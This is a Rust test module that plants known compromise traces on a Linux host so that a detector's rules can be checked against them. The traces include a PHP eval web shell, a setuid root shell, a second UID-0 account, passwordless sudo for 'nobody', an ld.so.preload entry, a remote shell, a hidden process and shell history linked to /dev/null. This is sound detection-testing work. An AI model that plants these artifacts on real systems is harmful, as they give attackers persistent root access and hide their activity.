//! The traces, one entry each: how it is planted, the text or number that marks its row, and the rules of which one must
//! find it.

use std::fs;
use std::os::unix::fs::symlink;

use super::scene::{PLANTED, Scene, append, copy, set_mode, write};

/// See the module.
pub struct Trace {
    pub id: &'static str,
    pub what: &'static str,
    /// Plants it. Returns what marks it in a row: a process number or a path.
    pub plant: fn(&mut Scene) -> anyhow::Result<String>,
    pub rules: &'static [&'static str],
}

/// The last one bends the dynamic loader: nothing dynamic is started after it.
pub const TRACES: &[Trace] = &[
    Trace {
        id: "deleted_image",
        what: "a process whose program was deleted",
        plant: |scene| {
            let program = copy("updater")?;
            let (pid, _) = scene.start(&program, None, &["sleep"])?;
            fs::remove_file(program)?;
            Ok(pid.to_string())
        },
        rules: &["deleted-image"],
    },
    Trace {
        id: "memory_image",
        what: "a process that runs from a memfd",
        plant: |scene| Ok(scene.start("/proc/self/exe", None, &["memory-file"])?.0.to_string()),
        rules: &["memfd-image"],
    },
    Trace {
        id: "false_kernel_thread",
        what: "a process that calls itself like a thread of the kernel",
        plant: |scene| {
            let program = copy("worker")?;
            let words = ["named", "kworker/u8:3"];
            Ok(scene.start(&program, Some("[kworker/u8:3-events]"), &words)?.0.to_string())
        },
        rules: &["fake-kernel-thread"],
    },
    Trace {
        id: "process_behind_mount",
        what: "a process whose folder in /proc is covered by a mount",
        plant: |scene| {
            let program = copy("helper")?;
            let (pid, _) = scene.start(&program, None, &["sleep"])?;
            let empty = format!("{PLANTED}/empty");
            fs::create_dir_all(&empty)?;
            rustix::mount::mount_bind(&empty, format!("/proc/{pid}"))?;
            Ok(pid.to_string())
        },
        rules: &["process-behind-mount", "hidden-process"],
    },
    Trace {
        id: "traced_process",
        what: "a process that another one traces",
        plant: |scene| {
            let program = copy("target")?;
            let (pid, _) = scene.start(&program, None, &["sleep"])?;
            scene.start(&program, None, &["trace", &pid.to_string()])?;
            Ok(pid.to_string())
        },
        rules: &["traced-process"],
    },
    Trace {
        id: "writable_code",
        what: "a process with memory that is writable and executable",
        plant: |scene| {
            let program = copy("engine")?;
            Ok(scene.start(&program, None, &["writable-code"])?.0.to_string())
        },
        rules: &["rwx-memory"],
    },
    Trace {
        id: "deleted_open_file",
        what: "a file that was deleted and is still held",
        plant: |scene| {
            let path = format!("{PLANTED}/staged.bin");
            let program = copy("keeper")?;
            Ok(scene.start(&program, None, &["hold", &path])?.0.to_string())
        },
        rules: &["deleted-open-file"],
    },
    Trace {
        id: "listener",
        what: "a program with a service's name that listens from a temporary folder",
        plant: |scene| {
            let program = copy("sshd")?;
            scene.start(&program, None, &["listen", "31999"])?;
            Ok("31999".to_owned())
        },
        rules: &["listener-in-temporary-folder"],
    },
    Trace {
        id: "service_name",
        what: "the same program, by its name",
        plant: |_| Ok(format!("{PLANTED}/sshd")),
        rules: &["system-name-elsewhere"],
    },
    Trace {
        id: "sniffer",
        what: "a program that sees all packets",
        plant: |scene| {
            let program = copy("monitor")?;
            Ok(scene.start(&program, None, &["sniff"])?.0.to_string())
        },
        rules: &["packet-socket"],
    },
    Trace {
        id: "remote_shell",
        what: "a shell on a network connection",
        plant: |scene| {
            let program = copy("client")?;
            let (_, said) = scene.start(&program, None, &["remote-shell"])?;
            said.into_iter().next().ok_or_else(|| anyhow::anyhow!("the shell did not start"))
        },
        rules: &["shell-on-network-socket"],
    },
    Trace {
        id: "authorized_key",
        what: "a key for root",
        plant: |_| {
            let key =
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA validation@example";
            append("/root/.ssh/authorized_keys", key)?;
            Ok("validation@example".to_owned())
        },
        rules: &["authorized-key-changed-lately"],
    },
    Trace {
        id: "cron",
        what: "a job of cron at each minute",
        plant: |_| {
            write("/etc/cron.d/validation", "* * * * * root /bin/true\n", 0o644)?;
            Ok("/etc/cron.d/validation".to_owned())
        },
        rules: &["cron-at-boot-or-each-minute"],
    },
    Trace {
        id: "systemd_unit",
        what: "a unit of systemd that no package brought",
        plant: |_| {
            let text = "[Service]\nExecStart=/bin/sleep 1000\n[Install]\nWantedBy=multi-user.target\n";
            write("/etc/systemd/system/validation.service", text, 0o644)?;
            Ok("/etc/systemd/system/validation.service".to_owned())
        },
        rules: &["systemd-unit-outside-packages"],
    },
    Trace {
        id: "systemd_generator",
        what: "a generator of systemd that no package brought",
        plant: |_| {
            write("/etc/systemd/system-generators/validation", "#!/bin/sh\nexit 0\n", 0o755)?;
            Ok("/etc/systemd/system-generators/validation".to_owned())
        },
        rules: &["systemd-generator-outside-packages"],
    },
    Trace {
        id: "setuid_shell",
        what: "a copy of the shell that makes root of whoever runs it",
        plant: |_| {
            let path = format!("{PLANTED}/.shell");
            fs::copy("/bin/sh", &path)?;
            set_mode(&path, 0o4755)?;
            Ok(path)
        },
        rules: &["setuid-shell"],
    },
    Trace {
        id: "pam_exec",
        what: "a line of PAM that runs a program at each login",
        plant: |_| {
            append("/etc/pam.d/validation", "auth optional pam_exec.so quiet /bin/true")?;
            Ok("/etc/pam.d/validation".to_owned())
        },
        rules: &["pam-odd-line"],
    },
    Trace {
        id: "second_root",
        what: "a second account with the number of root",
        plant: |_| {
            append("/etc/passwd", "validation:x:0:0::/root:/bin/sh")?;
            Ok("validation".to_owned())
        },
        rules: &["second-root"],
    },
    Trace {
        id: "sudo",
        what: "sudo without a password for an account of a service",
        plant: |_| {
            write("/etc/sudoers.d/validation", "nobody ALL=(ALL) NOPASSWD: ALL\n", 0o440)?;
            Ok("/etc/sudoers.d/validation".to_owned())
        },
        rules: &["sudo-for-service-account"],
    },
    Trace {
        id: "profile",
        what: "a start file of all shells that no package brought",
        plant: |_| {
            write("/etc/profile.d/validation.sh", ": validation\n", 0o644)?;
            Ok("/etc/profile.d/validation.sh".to_owned())
        },
        rules: &["profile-outside-packages"],
    },
    Trace {
        id: "udev",
        what: "a rule of udev that runs a program",
        plant: |_| {
            write("/etc/udev/rules.d/99-validation.rules", "ACTION==\"never\", RUN+=\"/bin/true\"\n", 0o644)?;
            Ok("/etc/udev/rules.d/99-validation.rules".to_owned())
        },
        rules: &["udev-outside-packages"],
    },
    Trace {
        id: "modprobe",
        what: "an install line of modprobe",
        plant: |_| {
            write("/etc/modprobe.d/validation.conf", "install validation /bin/sleep 0\n", 0o644)?;
            Ok("/etc/modprobe.d/validation.conf".to_owned())
        },
        rules: &["modprobe-install"],
    },
    Trace {
        id: "rc_local",
        what: "a script that runs at each boot",
        plant: |_| {
            write("/etc/rc.local", "#!/bin/sh\n/bin/true\n", 0o755)?;
            Ok("/etc/rc.local".to_owned())
        },
        rules: &["script-outside-packages"],
    },
    Trace {
        id: "history",
        what: "a history that leads to /dev/null",
        plant: |_| {
            let _ = fs::remove_file("/root/.bash_history");
            symlink("/dev/null", "/root/.bash_history")?;
            Ok("/root/.bash_history".to_owned())
        },
        rules: &["history-linked-to-null"],
    },
    Trace {
        id: "web_shell",
        what: "a script of a web server that runs what is sent to it",
        plant: |_| {
            write("/var/www/html/up/validation.php", "<?php @eval(base64_decode($_POST['x']));\n", 0o644)?;
            Ok("/var/www/html/up/validation.php".to_owned())
        },
        rules: &["web-shell"],
    },
    Trace {
        id: "preload",
        what: "a library that is preloaded into every program",
        plant: |_| {
            write("/etc/ld.so.preload", "/usr/lib/libvalidation.so\n", 0o644)?;
            Ok("/usr/lib/libvalidation.so".to_owned())
        },
        rules: &["ld-so-preload"],
    },
];
